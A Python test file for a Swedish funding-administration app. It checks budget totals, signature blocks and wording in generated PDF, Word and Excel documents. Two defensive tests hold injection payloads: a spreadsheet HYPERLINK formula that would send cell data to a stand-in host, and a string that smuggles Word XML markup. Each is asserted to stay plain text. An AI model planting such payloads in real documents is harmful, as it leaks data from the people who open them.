"""The money cycle's documents as the templates ask and as the people who open them meet them:
totals per year and for the whole period, funded and own financing, the total granted, Swedish
plurals, a signature block per party; text from the application reads as written."""

import re
from io import BytesIO

import pytest
from docx import Document
from openpyxl import load_workbook
from pypdf import PdfReader

from samordna.core.permissions import Role
from samordna.core.tests.pdf import read_pdf
from samordna.funding import documents, services
from samordna.funding.tests.factories import (
    add_line,
    decide,
    draw_agreement,
    optional_clauses,
    running_intervention,
)
from samordna.interventions import services as intervention_services
from samordna.interventions.models import Intervention
from samordna.interventions.tests.factories import intervention_of

# Per year: from the förbund, own financing, total cost, granted.
YEAR_2021 = ["2021", "309 600 kr", "40 000 kr", "349 600 kr", "309 000 kr"]
YEAR_2022 = ["2022", "816 000 kr", "160 000 kr", "976 000 kr", "816 000 kr"]
WHOLE_PERIOD = ["Hela perioden", "1 125 600 kr", "200 000 kr", "1 325 600 kr", "1 125 000 kr"]


def _plain(text: str) -> str:
    """Every kind of space as one ordinary space."""
    return re.sub(r"[\s\u00a0\u202f]+", " ", text)


@pytest.fixture
def submitted(tenant):
    """Two years of salaries from the förbund and premises as own financing, submitted."""
    intervention = intervention_of(tenant)
    for organisation, year, amount, percent in [
        (tenant.kommun, 2021, "206400", "100"),
        (tenant.forsakringskassan, 2021, "103200", "75"),
        (tenant.kommun, 2022, "816000", "100"),
    ]:
        add_line(
            tenant, intervention, organisation, amount, "salaries", year, position_percent=percent
        )
    for year, amount in [(2021, "40000"), (2022, "160000")]:
        add_line(tenant, intervention, tenant.kommun, amount, "premises_rent", year, source="own")
    intervention_services.submit(tenant.users[Role.ADMIN], intervention)
    return intervention


@pytest.fixture
def agreement(tenant, submitted):
    decide(tenant, submitted, {2021: "309000", 2022: "816000"}, outcome="partly_granted")
    return draw_agreement(tenant, submitted)


def _word(content: bytes):
    document = Document(BytesIO(content))
    paragraphs = [_plain(p.text) for p in document.paragraphs]
    tables = [[[_plain(c.text) for c in row.cells] for row in t.rows] for t in document.tables]
    return paragraphs, tables


def test_the_agreement_carries_the_budget_per_year_and_the_total_granted(agreement):
    text = _plain(
        " ".join(
            page.extract_text()
            for page in PdfReader(BytesIO(documents.agreement_pdf(agreement))).pages
        )
    )
    assert "Totalt: 1 125 000 kronor för 2021–2022." in text
    for row in (YEAR_2021, YEAR_2022, WHOLE_PERIOD):
        assert " ".join(row) in text

    paragraphs, tables = _word(documents.agreement_docx(agreement))
    assert "Totalt: 1 125 000 kronor för 2021–2022." in paragraphs
    assert tables == [
        [
            ["År", "Från samordningsförbundet", "Egenfinansiering", "Total kostnad", "Beviljat"],
            YEAR_2021,
            YEAR_2022,
            WHOLE_PERIOD,
        ]
    ]


def test_the_agreement_has_a_signature_block_for_the_forbund_and_each_party(tenant, agreement):
    parties = [tenant.forbund.name, tenant.kommun.name, tenant.forsakringskassan.name]
    text = _plain(
        " ".join(
            page.extract_text()
            for page in PdfReader(BytesIO(documents.agreement_pdf(agreement))).pages
        )
    )
    signatures = text.split("Underskrifter")[-1]
    for party in parties:
        assert f"{party} Ort och datum Underskrift Namnförtydligande" in signatures

    paragraphs, _tables = _word(documents.agreement_docx(agreement))
    block = paragraphs[paragraphs.index("Underskrifter") + 1 :]
    blank = documents.BLANK
    assert block == [
        line
        for party in parties
        for line in (
            party,
            f"Ort och datum: {blank}",
            f"Underskrift: {blank}",
            f"Namnförtydligande: {blank}",
        )
    ]


@pytest.mark.parametrize(
    ("renegotiation", "termination", "expected"),
    [
        (1, 3, ["minst 1 månad i förväg", "med 3 månaders varsel"]),
        (2, 1, ["minst 2 månader i förväg", "med 1 månads varsel"]),
    ],
)
def test_notice_periods_read_in_swedish_singular_and_plural(
    tenant, submitted, renegotiation, termination, expected
):
    decide(tenant, submitted, {2021: "309000", 2022: "816000"})
    agreement = draw_agreement(
        tenant,
        submitted,
        renegotiation_notice_months=renegotiation,
        termination_notice_months=termination,
        optional_clauses=optional_clauses(tenant, "renegotiation"),
    )
    text = " ".join(p for s in documents.agreement_sections(agreement) for p in s.paragraphs)
    assert "(er)" not in text
    for phrase in expected:
        assert phrase in text


@pytest.mark.parametrize(
    ("limits", "expected"),
    [
        (
            {"min_enrolment_amount": 6, "max_enrolment_amount": 24, "max_enrolment_unit": "weeks"},
            "En deltagare deltar 6–24 veckor.",
        ),
        (
            {"max_enrolment_amount": 1, "max_enrolment_unit": "months"},
            "En deltagare deltar högst 1 månad.",
        ),
    ],
)
def test_the_agreement_cites_the_interventions_participation_limit(
    tenant, submitted, limits, expected
):
    """One limit, kept on the intervention: the agreement quotes it instead of its own."""
    Intervention.objects.filter(pk=submitted.pk).update(**limits)
    submitted.refresh_from_db()
    decide(tenant, submitted, {2021: "309000", 2022: "816000"})
    agreement = draw_agreement(tenant, submitted)
    text = " ".join(p for s in documents.agreement_sections(agreement) for p in s.paragraphs)
    assert expected in text


def test_the_application_in_word_carries_its_totals_and_each_partys_signature(tenant, submitted):
    version = submitted.application_versions.get()
    services.accept_version(tenant.users[Role.STAFF], version, tenant.kommun, "Förvaltningschef")
    paragraphs, tables = _word(documents.application_docx(version))

    assert "Totalt: 1 125 600 kronor från samordningsförbundet för 2021–2022." in paragraphs
    assert "Egenfinansiering 200 000 kr; total kostnad för insatsen 1 325 600 kr." in paragraphs
    per_year, lines = tables
    assert per_year == [
        ["År", "Från samordningsförbundet", "Egenfinansiering", "Total kostnad"],
        YEAR_2021[:4],
        YEAR_2022[:4],
        WHOLE_PERIOD[:4],
    ]
    assert lines[0] == ["År", "Organisation", "Kategori", "Beskrivning", "Finansiering", "Belopp"]
    kommun = tenant.kommun.name
    assert ["2022", kommun, "Lokalhyra", "", "Egenfinansiering", "160 000 kr"] in lines
    salary = ["2022", kommun, "Lönekostnader inkl. PO-pålägg", "(100 %)"]
    assert [*salary, "Finansierat av samordningsförbundet", "816 000 kr"] in lines

    signatures = paragraphs[paragraphs.index("Underskrifter") + 1 :]
    accepted_by = tenant.users[Role.STAFF].display_name
    kommun = signatures[signatures.index(tenant.kommun.name) + 1 :][:3]
    assert kommun[0].startswith("Godkänd i Samordna: ")
    assert kommun[1:] == [f"Namnförtydligande: {accepted_by}", "Titel: Förvaltningschef"]
    fk = signatures[signatures.index(tenant.forsakringskassan.name) + 1 :][:3]
    assert fk == [
        f"Ort och datum: {documents.BLANK}",
        f"Underskrift: {documents.BLANK}",
        f"Namnförtydligande: {documents.BLANK}",
    ]


def _sheet_rows(sheet) -> list[list]:
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_budget_follow_up_in_excel_has_typed_amounts_and_totals(tenant, agreement):
    response = tenant.client(Role.AUDITOR).get(
        f"/finansiering/insats/{agreement.intervention_id}/budgetuppfoljning.xlsx"
    )
    workbook = load_workbook(BytesIO(response.content))
    budget = _sheet_rows(workbook["Budget"])
    money = budget[
        budget.index(
            [
                "År",
                "Från samordningsförbundet",
                "Egenfinansiering",
                "Total kostnad",
                "Beviljat",
                None,
                None,
            ]
        )
        + 1 :
    ]
    assert [row[:5] for row in money] == [
        [2021, 309600, 40000, 349600, 309000],
        [2022, 816000, 160000, 976000, 816000],
        ["Hela perioden", 1125600, 200000, 1325600, 1125000],
    ]
    amounts = [cell for row in workbook["Budget"].iter_rows(min_row=2) for cell in row[1:5]]
    money_cells = [cell for cell in amounts if isinstance(cell.value, int | float)]
    assert money_cells and all(cell.number_format == '#,##0 "kr"' for cell in money_cells)
    line = next(row for row in workbook["Budget"].iter_rows() if row[5].value == 100)
    assert (line[5].number_format, line[6].number_format) == ('0.0 "%"', '#,##0 "kr"')
    assert line[6].data_type == "n"

    utilisation = _sheet_rows(workbook["Utfall"])
    assert utilisation[-1] == ["Hela perioden", 1125600, 1125000, 0, 0, 1125000, 0]
    assert workbook["Utfall"]["C4"].number_format == '#,##0 "kr"'


FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"Öppna")'


def test_budget_text_that_looks_like_a_formula_stays_text_in_the_excel(tenant):
    intervention = running_intervention(tenant)
    add_line(tenant, intervention, tenant.kommun, 500, year=2022, description=FORMULA)
    tenant.kommun.name = "@Kommunen"
    tenant.kommun.save()
    response = tenant.client(Role.AUDITOR).get(
        f"/finansiering/insats/{intervention.pk}/budgetuppfoljning.xlsx"
    )
    cells = [
        cell
        for sheet in load_workbook(BytesIO(response.content))
        for row in sheet.rows
        for cell in row
    ]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert FORMULA in texts and "@Kommunen" in texts


MARKUP = "x < y & z</w:t></w:r><w:r><w:t>INJECTED"


def _runs(content: bytes) -> list[str]:
    document = Document(BytesIO(content))
    cells = [p for t in document.tables for row in t.rows for c in row.cells for p in c.paragraphs]
    return [run.text for p in [*document.paragraphs, *cells] for run in p.runs]


def test_text_that_looks_like_word_markup_is_printed_as_written(tenant):
    """A name, an intervention text or a title holding `<`, `&` or Word markup opens as a
    document that shows it literally; it never becomes a run of its own."""
    tenant.kommun.name = f"Kommunen {MARKUP}"
    tenant.kommun.save()
    intervention = intervention_of(tenant, name=f"Insats {MARKUP}", effect_goals=MARKUP)
    add_line(tenant, intervention, tenant.kommun, 1000, year=2021, description=MARKUP)
    intervention_services.submit(tenant.users[Role.ADMIN], intervention)
    version = intervention.application_versions.get()
    services.accept_version(tenant.users[Role.STAFF], version, tenant.kommun, f"Chef {MARKUP}")
    decide(tenant, intervention, {2021: "1000"})
    agreement = draw_agreement(tenant, intervention)

    application, signed = documents.application_docx(version), documents.agreement_docx(agreement)
    for content in (application, signed):
        runs = _runs(content)
        assert "INJECTED" not in runs
        assert MARKUP in runs
        assert any(f"Kommunen {MARKUP}" in run for run in runs)
        assert any(f"Insats {MARKUP}" in run for run in runs)
    assert f"Titel: Chef {MARKUP}" in _runs(application)


def test_every_page_of_the_agreement_names_the_forbund_and_counts_its_pages(tenant, agreement):
    pages = read_pdf(documents.agreement_pdf(agreement))
    for number, page in enumerate(pages, start=1):
        assert f"{tenant.forbund.name} – {agreement.title}" in page.text
        assert f"Sida {number} av {len(pages)}" in page.text
        assert not page.lines_off_the_page()
